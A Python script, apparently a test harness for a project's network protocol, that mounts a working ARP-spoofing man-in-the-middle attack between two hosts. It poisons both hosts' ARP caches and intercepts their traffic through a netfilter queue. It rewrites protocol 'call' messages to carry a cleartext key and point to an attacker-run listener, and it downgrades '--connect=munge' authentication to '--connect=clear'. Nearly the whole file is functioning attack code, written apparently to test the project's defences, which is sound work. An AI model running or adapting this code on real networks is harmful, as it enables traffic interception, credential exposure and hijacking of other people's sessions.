#!/usr/bin/python3
"""between.py IFACE A B DOES: a host between hosts A and B, on a third one of their network.

It tells each by ARP that it is the other one.  The kernel carries what they say; iptables puts the
packets into queue 5.  DOES:
  carry   nothing else
  call    each `call` (common/wire.def) of runner's is exchanged for one of the same length, with
          a key in clear and this host's address; the port is of a listener here
  both    the same, and --connect=munge becomes --connect=clear, where that goes by
A and B have to be in this host's ARP table.  A line for each thing done, and for each agent that
calls here.  TERM: both hosts are told the truth."""

import os
import re
import signal
import socket
import struct
import sys
import threading
import time

sys.dont_write_bytecode = True  # nothing of ours lies beside the tests
sys.path.insert(0, os.path.join(os.path.dirname(__file__), "../cli"))
from hostile_runner import frame, many, text, u32

CALL, DOOR = 45, 50
QUEUE = 5
iface, a, b, does = sys.argv[1:]
mac = {line.split()[0]: bytes.fromhex(line.split()[3].replace(":", ""))
       for line in open("/proc/net/arp").readlines()[1:]}
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
raw.bind((iface, 0))
me = raw.getsockname()[4]


def tell(to, claim, address):
    raw.send(mac[to] + me + b"\x08\x06" + struct.pack(">HHBBH", 1, 0x800, 6, 4, 2) + address
             + socket.inet_aton(claim) + mac[to] + socket.inet_aton(to))


def lie():
    while True:
        tell(a, b, me)
        tell(b, a, me)
        time.sleep(0.05)


def leave(*_):
    for _ in range(3):
        tell(a, b, mac[b])
        tell(b, a, mac[a])
    os._exit(0)


def own_address():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((a, 9))
        return s.getsockname()[0]


def forged(version, wire, size):
    """A `call` of SIZE bytes."""
    pad = 0
    while True:
        addresses = [own_address()] + (["x" * (pad - 1)] if pad else [])
        door = frame(DOOR, u32(32) + b"k" * 32 + many(addresses, text) + u32(listener.getsockname()[1])
                     + u32(5000) + u32(0))
        whole = frame(CALL, text(version) + u32(wire) + u32(len(door)) + door)
        if len(whole) >= size:
            return whole if len(whole) == size else None
        pad = size - len(whole) - 4 if not pad else pad + size - len(whole)


def exchange_call(data):
    for m in re.finditer(rb"(....)\x2d(....)(\d+\.\d+\.\d+)\0(....)", data, re.DOTALL):
        size = struct.unpack("<I", m[1])[0] + 5
        if struct.unpack("<I", m[2])[0] != len(m[3]) or m.start() + size > len(data):
            continue
        new = forged(m[3].decode(), struct.unpack("<I", m[4])[0], size)
        done = "exchanged" if new else "too short"
        print(f"call of {size} bytes, a credential: {b'MUNGE:' in data}: {done}", flush=True)
        if new:
            return data[:m.start()] + new + data[m.start() + size:]
    return data


def change(data):
    if does != "carry":
        data = exchange_call(data)
    if does == "both" and b"--connect=munge" in data:
        print("argv: --connect=munge: exchanged", flush=True)
        data = data.replace(b"--connect=munge", b"--connect=clear")
    return data


# ---- the queue: linux/netfilter/nfnetlink_queue.h ----

def attribute(kind, data):
    return struct.pack("=HH", 4 + len(data), kind) + data + bytes(-len(data) % 4)


def ask(kind, *attributes):
    body = struct.pack(">BBH", socket.AF_UNSPEC, 0, QUEUE) + b"".join(attributes)
    netlink.send(struct.pack("=IHHII", 16 + len(body), 3 << 8 | kind, 1, 0, 0) + body)


def attributes_of(data):
    while len(data) >= 4:
        size, kind = struct.unpack_from("=HH", data)
        yield kind & 0x3fff, data[4:size]
        data = data[(size + 3) & ~3:]


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2 + 1}H", data + bytes(2 - len(data) % 2)))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def packet(p):
    """The TCP packet P, changed, or None."""
    at = (p[0] & 15) * 4
    data = at + (p[at + 12] >> 4) * 4
    new = change(p[data:])
    if new == p[data:]:
        return None
    tcp = p[at:at + 16] + bytes(2) + p[at + 18:data] + new
    tcp = tcp[:16] + struct.pack(">H", checksum(p[12:20] + struct.pack(">HH", 6, len(tcp)) + tcp)) + tcp[18:]
    return p[:at] + tcp


def judge():
    message = netlink.recv(1 << 18)
    size, kind = struct.unpack_from("=IH", message)
    if kind != 3 << 8:
        return
    got = dict(attributes_of(message[20:size]))
    new = packet(got[10])
    ask(1, attribute(2, struct.pack(">I", 1) + got[1][:4]), *([attribute(10, new)] if new else []))


def listen():
    held = []
    while True:
        s = listener.accept()[0]
        held.append(s)
        print("an agent calls: " + ("yes" if s.recv(8) == b"berthcl\0" else "no"), flush=True)


listener = socket.create_server(("", 0))
signal.signal(signal.SIGTERM, leave)
threading.Thread(target=listen, daemon=True).start()
threading.Thread(target=lie, daemon=True).start()
netlink = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)
netlink.bind((0, 0))
ask(2, attribute(1, struct.pack(">BBH", 1, 0, socket.AF_INET)))
ask(2, attribute(2, struct.pack(">IB", 0xffff, 2)))
print("ready", flush=True)
while True:
    judge()
